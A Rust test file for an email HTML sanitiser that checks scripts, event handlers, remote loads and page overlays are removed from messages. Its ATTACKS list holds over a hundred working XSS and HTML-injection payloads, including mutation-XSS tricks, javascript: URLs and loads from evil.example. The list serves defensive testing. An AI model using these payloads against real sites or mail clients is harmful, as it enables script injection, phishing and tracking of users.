//! HTML cleaning: nothing in a message runs, loads, covers or leaves the page.

use mailkit::html::{CleanOptions, Cleaned, clean, from_text, to_search_text, to_text};
use proptest::prelude::*;

fn clean_with(html: &str, remote_images: bool) -> Cleaned {
    clean(
        html,
        &CleanOptions { remote_images, inline_url: &|id| (id == "known@x").then(|| "/m/1/part/2?a=1&b=2".to_owned()) },
    )
}

fn cleaned(html: &str) -> String {
    clean_with(html, false).html
}

/// Attacks by kinds of way in: scripts, handlers, addresses, styles, parser confusion, foreign content, framing.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src='x' ONERROR=&#97;lert(1)>",
    "<body onload=alert(1)>",
    "<p onmouseover=alert(1) style='x'>x</p>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action='https://evil.example/login'><input name=password></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href=' \u{1}javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/sign-out'>x</a>",
    "<a ping='https://evil.example/p' href='https://ok.example'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='/account/delete'>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<img lowsrc='https://evil.example/x.png'>",
    "<img dynsrc='https://evil.example/x.png'>",
    "<img usemap='#m'><map name=m><area href=javascript:alert(1)></map>",
    "<table background='javascript:alert(1)'><tr><td background='https://evil.example/x'>x</table>",
    "<body background='https://evil.example/x.png'>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background-image:u\\72l(https://evil.example/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<div style='behavior:url(#default#time2)'>x</div>",
    "<div style=\"color:red;} @import 'https://evil.example/x.css';\">x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/x'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<base target=_parent>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='https://evil.example'></frameset>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<portal src='https://evil.example'></portal>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><image href='https://evil.example/x.png'></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src onerror=alert(1)>'></title>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<%<!--'%><script>alert(1);</script -->",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    "<a title=\"'><img src=x onerror=alert(1)>\">x</a>",
    "<img alt='`onerror=alert(1)' src=x>",
    "<div id=x name=y class=z>clobber</div>",
    "<img name=getElementById>",
    "<a id=location href='https://ok.example'>x</a>",
    "<p is=x-evil>x</p>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p contenteditable onbeforeinput=alert(1)>x</p>",
    "<p slot=x part=y accesskey=x tabindex=1>x</p>",
    "<dialog open>over everything</dialog>",
    "<table><script>alert(1)</script></table>",
    "<select><script>alert(1)</script></select>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "\u{0}<script>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "<img src=x onerror=\u{0}alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<IMG SRC=`javascript:alert(1)`>",
    "<<script>alert(1);//<</script>",
    "<img \"\"\"><script>alert(1)</script>\">",
];

/// Reads the attributes out of what was cleaned; the serialiser always writes `name="value"`.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let name_end = rest.find([' ', '>']).expect("a tag ends");
        let name = rest[..name_end].to_owned();
        let mut attributes = Vec::new();
        rest = &rest[name_end..];
        while let Some(tail) = rest.strip_prefix(' ') {
            let (name, tail) = tail.split_once("=\"").expect("quoted value");
            let (value, tail) = tail.split_once('"').expect("closing quote");
            attributes.push((name.to_owned(), value.to_owned()));
            rest = tail;
        }
        rest = rest.strip_prefix('>').expect("tag closed");
        out.push((name, attributes));
    }
    out
}

const TAGS: &[&str] = &[
    "a",
    "area",
    "b",
    "big",
    "blockquote",
    "br",
    "center",
    "code",
    "col",
    "del",
    "details",
    "div",
    "em",
    "font",
    "h1",
    "h2",
    "hr",
    "i",
    "img",
    "ins",
    "label",
    "li",
    "map",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "tt",
    "u",
    "ul",
];

fn check(input: &str, html: &str) {
    for (tag, attributes) in tags(html) {
        let name = tag.trim_start_matches('/');
        assert!(TAGS.contains(&name), "tag {tag}: {input:?} -> {html:?}");
        for (name, value) in attributes {
            let lower = value.to_ascii_lowercase();
            assert!(!name.starts_with("on"), "{input:?} -> {html:?}");
            assert!(
                !matches!(name.as_str(), "id" | "name" | "class" | "srcset" | "ping" | "action" | "background" | "is"),
                "{name}: {input:?} -> {html:?}"
            );
            match name.as_str() {
                "href" => assert!(
                    lower.starts_with("https:")
                        || lower.starts_with("http:")
                        || lower.starts_with("mailto:")
                        || lower.starts_with("tel:"),
                    "{input:?} -> {html:?}"
                ),
                "src" => assert!(
                    lower.starts_with("data:image/gif;base64,")
                        || lower.starts_with("data:image/png;base64,")
                        || lower.starts_with("/m/1/part/2"),
                    "{input:?} -> {html:?}"
                ),
                "style" => {
                    for bad in ["url", "expression", "position", "\\", "@", "/*"] {
                        assert!(!lower.contains(bad), "{bad}: {input:?} -> {html:?}");
                    }
                }
                _ => {}
            }
        }
    }
}

#[test]
fn no_known_attack_survives() {
    for attack in ATTACKS {
        let first = cleaned(attack);
        check(attack, &first);
        // What is clean stays so when a browser's parser reads it again (mutation attacks live on the difference).
        let again = cleaned(&first);
        check(attack, &again);
        assert_eq!(cleaned(&again), again, "not stable: {attack:?}");
        // Inside ordinary mail it must not fare better.
        let wrapped = format!("<html><body><table><tr><td><b>Dear {attack} you</td></tr></table>");
        check(attack, &cleaned(&wrapped));
    }
}

#[test]
fn ordinary_mail_keeps_its_looks() {
    let html = "<table width=\"600\" bgcolor=\"#eee\" cellpadding=\"4\"><tr><td align=\"center\" \
                style=\"color: red; padding: 4px\"><font face=\"Arial\" color=\"blue\">Hi</font></td></tr></table>";
    let out = cleaned(html);
    for kept in [
        "width=\"600\"",
        "bgcolor=\"#eee\"",
        "cellpadding=\"4\"",
        "style=\"color: red; padding: 4px\"",
        "<font ",
        "face=\"Arial\"",
    ] {
        assert!(out.contains(kept), "{kept}: {out}");
    }
}

#[test]
fn links_open_elsewhere_and_tell_nothing() {
    let out = cleaned("<a href='https://ok.example/?a=1&b=2' target=_top rel=opener>x</a>");
    assert!(out.contains("href=\"https://ok.example/?a=1&amp;b=2\""), "{out}");
    assert!(out.contains("target=\"_blank\""), "{out}");
    assert!(out.contains("rel=\"noopener noreferrer nofollow\""), "{out}");
    assert!(!out.contains("_top") && !out.contains("\"opener"), "{out}");
    for good in ["mailto:a@b.org", "tel:+49123"] {
        assert!(cleaned(&format!("<a href='{good}'>x</a>")).contains(good));
    }
}

#[test]
fn remote_images_are_counted_and_left_out_until_asked_for() {
    let html = "<img src='https://a.example/1.png' alt=one><img src=http://a.example/2.png>\
                <img src=//a.example/3.png><td background=https://a.example/4.png>\
                <p style='background: url(https://a.example/5.png)'>x</p><img src='data:image/png;base64,AA=='>";
    let blocked = clean_with(html, false);
    assert!(!blocked.html.contains("a.example"), "{}", blocked.html);
    assert!(blocked.html.contains("alt=\"one\""));
    assert_eq!(blocked.html.matches("src=").count(), 1, "their places have no address: {}", blocked.html);
    assert!(blocked.html.contains("data:image/png;base64,AA=="));
    assert_eq!(blocked.remote_images_blocked, 4);
    let allowed = clean_with(html, true);
    assert!(allowed.html.contains("src=\"https://a.example/1.png\""));
    assert!(allowed.html.contains("referrerpolicy=\"no-referrer\""));
}

#[test]
fn inline_images_go_through_the_callback() {
    let out = cleaned("<img src=\"cid:known%40x\"><img src=cid:unknown><img src=CID:known@x>");
    assert_eq!(out.matches("src=\"/m/1/part/2?a=1&amp;b=2\"").count(), 2, "{out}");
    assert!(!out.contains("cid:") && !out.contains("unknown"), "{out}");
}

#[test]
fn huge_and_deep_html_is_cut_not_choked_on() {
    let deep = "<div><b><i>".repeat(100_000);
    check("deep", &cleaned(&deep));
    to_text(&deep);
    let wide = "<p>x</p>".repeat(200_000);
    assert!(cleaned(&wide).len() < wide.len());
    let long = "ä".repeat(4 * 1024 * 1024);
    assert!(cleaned(&long).len() <= 5 * 1024 * 1024);
}

/// Each of these took seconds to minutes once.
#[test]
fn html_made_to_be_slow_is_not() {
    let attributes: String = (0..60_000).map(|n| ["a", &n.to_string(), " "].concat()).collect();
    for html in [
        ["<p ", &attributes, ">x"].concat(),
        ["<span>".repeat(30_000), "</b>".repeat(30_000)].concat(),
        "<b><div>".repeat(30_000),
        "<a href=x><div>".repeat(30_000),
        ["<ul>".repeat(20_000), "<li>".repeat(20_000)].concat(),
        "<table><b>".repeat(30_000),
        "<select><svg><option>".repeat(30_000),
        "&amp".repeat(1_000_000),
        "<".repeat(1_000_000),
    ] {
        let out = cleaned(&html);
        check("slow", &out);
        assert!(to_text(&html).len() <= html.len());
    }
}

#[test]
fn text_becomes_html_with_links_and_quotes() {
    assert_eq!(
        from_text("a <b> & \"c\"\n> see https://x.example/a?b=1&c=2.\nend"),
        "a &lt;b&gt; &amp; &quot;c&quot;<br>\n<blockquote>see \
         <a href=\"https://x.example/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">\
         https://x.example/a?b=1&amp;c=2</a>.<br>\n</blockquote>end<br>\n"
    );
}

#[test]
fn html_becomes_text() {
    let text = to_text("<p>Hello <b>you</b></p><ul><li>one<li>two</ul><a href='https://x.example'>link</a>");
    for part in ["Hello", "you", "one", "two", "link", "https://x.example"] {
        assert!(text.contains(part), "{part}: {text}");
    }
    assert_eq!(to_search_text("<p>a&amp;b<style>x{}</style></p>").trim(), "a&b");
}

proptest! {
    #[test]
    fn any_mixture_of_attacks_is_cleaned(
        picks in proptest::collection::vec(proptest::sample::select(ATTACKS), 1..5),
        cuts in proptest::collection::vec(any::<proptest::sample::Index>(), 5),
        glue in "[<>'\"=/a ]{0,3}",
    ) {
        let mut html = String::new();
        for (pick, cut) in picks.iter().zip(&cuts) {
            let at = pick.floor_char_boundary(cut.index(pick.len() + 1));
            html.push_str(&pick[..at]);
            html.push_str(&glue);
            html.push_str(&pick[at..]);
        }
        let out = cleaned(&html);
        check(&html, &out);
        to_text(&html);
        to_search_text(&html);
    }
}

#[test]
fn a_text_of_addresses_and_nothing_else_is_made_clickable_in_linear_time() {
    let count = 200_000;
    let html = from_text(&"http://a httphttps://b ".repeat(count));
    assert_eq!(html.matches("<a href=\"http://a\"").count(), count);
    assert_eq!(html.matches("http<a href=\"https://b\"").count(), count);
}
